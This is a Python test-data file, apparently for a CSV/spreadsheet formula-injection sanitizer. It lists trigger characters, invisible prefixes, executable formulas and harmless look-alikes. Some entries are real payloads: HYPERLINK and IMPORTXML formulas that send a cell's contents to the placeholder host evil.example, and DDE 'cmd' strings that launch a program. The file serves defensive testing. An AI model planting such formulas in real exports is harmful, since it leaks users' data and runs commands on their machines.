"""Texts that spreadsheets have been seen to run, and texts that only look like them."""

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
SKIPPED = [
    "",
    " ",
    "   ",
    "\u00a0",
    "\u2009",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u200c\u200d",
    "\u2060",
    "\u00ad",
    "\u202e",
]
FORMULAS = [
    "==1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    "\r\n=1+1",
    "\t=1+1",
    "'=1",
    "''=1",
    "' =1",
]
RUNNING = [skipped + trigger + "1" for trigger in TRIGGERS for skipped in SKIPPED] + FORMULAS
HARMLESS = [
    "",
    "Acme",
    "L’Oréal",
    "1+1",
    "a=1",
    "5 - 3",
    '"=1',
    ";=1",
    ",=1",
    "x\n=1",
    "'",
    "'tis",
    "''",
    "a@b.example",
    "médecine\u00a0: 100\u202f%",
]
